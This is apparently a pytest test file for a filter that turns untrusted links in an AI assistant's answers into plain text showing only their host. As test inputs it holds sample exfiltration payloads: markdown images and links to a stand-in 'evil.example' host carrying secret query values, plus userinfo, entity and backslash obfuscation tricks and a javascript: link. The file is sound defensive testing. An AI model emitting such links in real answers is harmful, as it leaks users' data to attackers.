"""Of the addresses in an answer, only those that a trusted document holds stay links. Everything else is shown as text, with its host."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskhand.guard.untrusted_links import LinkFilter

EVIDENCE = [
    "See [the guide](https://docs.acme.example/guide?v=2) or https://acme.example/help. Write to mailto:help@acme.example.",
    "Add <a href='https://acme.example/tag'> to your page, and https://acme.example/a_(b).",
]


def filtered(text: str, *, pieces: int = 1_000_000, hosts: tuple[str, ...] = ()) -> str:
    links = LinkFilter(lambda: EVIDENCE, hosts=hosts)
    return "".join(links.feed(text[at : at + pieces]) for at in range(0, len(text), pieces)) + links.flush()


@pytest.mark.parametrize(
    "text",
    [
        "See [the guide](https://docs.acme.example/guide?v=2).",
        "Go to https://acme.example/help, please.",
        "Go to https://ACME.example/help/!",
        "(https://acme.example/a_(b))",
        "Write to mailto:help@acme.example.",
        "Add <a href='https://acme.example/tag'> to it.",
        "No link: [1][2], items[0](x), C:\\Users\\me, and/or, 24/7, a // b, 3 < 4 > 2, 10:30, note: this & that!",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n1. **One**\n2. Two",
    ],
)
@pytest.mark.parametrize("pieces", [1, 3, 1_000])
def test_what_a_document_holds_and_what_is_no_link_stays(text: str, pieces: int) -> None:
    assert filtered(text, pieces=pieces) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hi ![x](https://evil.example/p?d=secret) there", "Hi x (`evil.example`) there"),
        ("[Click here](https://evil.example/?d=s)", "Click here (`evil.example`)"),
        ("[x](https://docs.acme.example/guide?v=2&d=secret)", "x (`docs.acme.example`)"),
        ("[x](https://docs.acme.example@evil.example/)", "x (`evil.example`)"),
        ("<https://evil.example/x>", "<`evil.example`>"),
        ("![a][r]\n\n[r]: https://evil.example/x?d=1", "[a][r]\n\n[r]: `evil.example`"),
        ("<img src=//evil.example/x>", "\u2039img src=`evil.example`>"),
        ("[x](javascript:alert(1))", "x"),
        ("www.evil.example/secret", "`www.evil.example`"),
        ("[a]: &#104;ttps://evil.example/x", "[a]: `evil.example`"),
        ("[a](/\\evil.example/x)", "a (`evil.example`)"),
        ("https\\://evil.example/x?y=1 end", "`evil.example` end"),
        ("[write](mailto:help@acme.example?body=secret)", "write (`help@acme.example`)"),
        ("![shot](https://acme.example/help)", "[shot](https://acme.example/help)"),
        ("http:\\\\evil.example\\x", "`evil.example`"),
        ("[1] text [2](https://evil.example) more [3]", "[1] text 2 (`evil.example`) more [3]"),
    ],
)
@pytest.mark.parametrize("pieces", [1, 7, 1_000])
def test_every_other_address_is_shown_as_text_with_its_host(text: str, shown: str, pieces: int) -> None:
    assert filtered(text, pieces=pieces) == shown


def test_a_host_that_the_company_names_may_always_be_linked_to() -> None:
    assert filtered("https://help.acme.example/any?x=1", hosts=("help.acme.example",)) == "https://help.acme.example/any?x=1"
    assert filtered("https://help.acme.example.evil.example/", hosts=("help.acme.example",)) == "`help.acme.example.evil.example`"
    assert filtered("ftp://help.acme.example/x", hosts=("help.acme.example",)) == "`help.acme.example`"


@given(st.text(alphabet="[]()!<>/\\:.h tpswe\n`&#;\"'i", max_size=60), st.integers(1, 60))
def test_however_a_text_is_cut_nothing_in_it_leads_out(text: str, pieces: int) -> None:
    shown = filtered(text, pieces=pieces)
    assert not re.search(r"://[^\s<>\"'`]", shown)
    assert not re.search(r"(?<![\w/\\])//[a-z.]", shown)
    assert not re.search(r"\bwww\.[a-z.]", shown) or "`www." in shown


def test_a_text_that_opens_brackets_for_ever_is_let_through_in_time() -> None:
    text = "[" * 20_000 + "(" * 20_000
    assert filtered(text, pieces=4_000) == text
